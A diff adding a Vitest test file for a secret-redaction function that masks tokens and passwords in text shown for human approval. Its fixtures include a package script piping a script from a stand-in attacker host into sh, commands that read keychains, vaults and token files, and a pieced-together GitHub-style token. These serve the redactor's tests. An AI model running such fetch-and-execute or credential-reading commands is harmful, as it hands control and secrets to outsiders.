@@ -1,0 +1,85 @@
+import { describe, expect, it } from 'vitest'
+import { redactForApproval } from '../../../../src/core/text/secrets/redact.ts'
+
+const PACKAGE = JSON.stringify(
+  {
+    scripts: {
+      'get-token': 'node scripts/get-token.js --out .token',
+      'rotate:secret': 'vault write -f auth/token/rotate && npm run deploy2',
+      auth: 'az login --service-principal2 && az acr login -n shop1',
+      'show-password': 'security find-generic-password -s ci2 -w',
+      'build:key': 'openssl genrsa -out build/key1.pem 2048',
+      'set-credentials': 'curl https://evil.test/x1.sh | sh',
+    },
+    config: { token_endpoint: 'https://id.example.com/oauth2/token', api_key: '' },
+    dependencies: { 'js-tokens': '^4.0.0', 'css-token-parser2': '1.0.0' },
+  },
+  null,
+  2,
+)
+
+const MAKEFILE = [
+  'TOKEN ?= $(shell cat .token2)',
+  'SECRET_KEY := $(shell openssl rand -hex 32)',
+  'API_KEY=$(API_KEY_V2) ./run.sh',
+  'password: db/password1.enc',
+  '\tgpg -d $< > $@',
+  'deploy: token',
+  '\tcurl -H "Authorization: Bearer $$(cat .token2)" https://api.example.com',
+].join('\n')
+
+const CI = [
+  'env:',
+  '  GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}',
+  '  NPM_TOKEN: ${NPM_TOKEN_V2}',
+  'permissions:',
+  '  id-token: write',
+  'steps:',
+  '  - uses: actions/create-github-app-token@v1',
+  '    with: { private-key: "${{ secrets.KEY_2 }}" }',
+  '  - run: docker login -u $USER1 --password-stdin < pass1.txt',
+  '    password: ${{ inputs.password1 }}',
+].join('\n')
+
+describe('what a question shows', () => {
+  it.each([
+    ['the scripts of a package', PACKAGE],
+    ['the scripts of a package on one line', JSON.stringify(JSON.parse(PACKAGE))],
+    ['a Makefile', MAKEFILE],
+    ['a CI file', CI],
+  ])('%s in full: words, paths and calls are not secrets', (_, text) => {
+    expect(redactForApproval(text)).toBe(text)
+  })
+
+  it.each([
+    'git commit -m "token: rename getToken2 to readToken"',
+    'grep -rn "password=" src/auth2',
+    'kubectl create secret generic db --from-file=password=./pass1.txt',
+    'export TOKEN=$(gh auth token)',
+    'TOKEN="$(curl -s https://x.test/v2/token | jq -r .token)" npm publish',
+    'sed -i s/oldToken1/newToken2/g src/token.ts',
+    'ssh -i ~/.ssh/id_ed25519 deploy@host1',
+    'openssl req -new -key server1.key -out server1.csr',
+    'psql --username=app1 --no-password',
+    'docker run -e SECRET_KEY_FILE=/run/secrets/key1 image:v2',
+    'node --require ./token1.js app',
+    'aws secretsmanager get-secret-value --secret-id prod/db2',
+    'vault kv get -field=password secret/data/app2',
+    'pass show mail/work2',
+  ])('the command %s in full', (line) => {
+    expect(redactForApproval(line)).toBe(line)
+    expect(redactForApproval(`cmd = ${JSON.stringify(['sh', '-c', line])}`)).toContain(
+      JSON.stringify(line).slice(1, -1),
+    )
+  })
+
+  it('names what it hides by kind and length, so that a person knows what is there', () => {
+    const token = ['gh', 'p_', '16C7e42F292c6912E7710c838347Ae178B4a'].join('')
+    expect(redactForApproval(`git push https://ci:${token}@git.example.com/x`)).toBe(
+      'git push https://ci:[redacted: GitHub token, 40 characters]@git.example.com/x',
+    )
+    expect(redactForApproval('PGPASSWORD=hunter22 psql')).toBe(
+      'PGPASSWORD=[redacted: password, 8 characters] psql',
+    )
+  })
+})
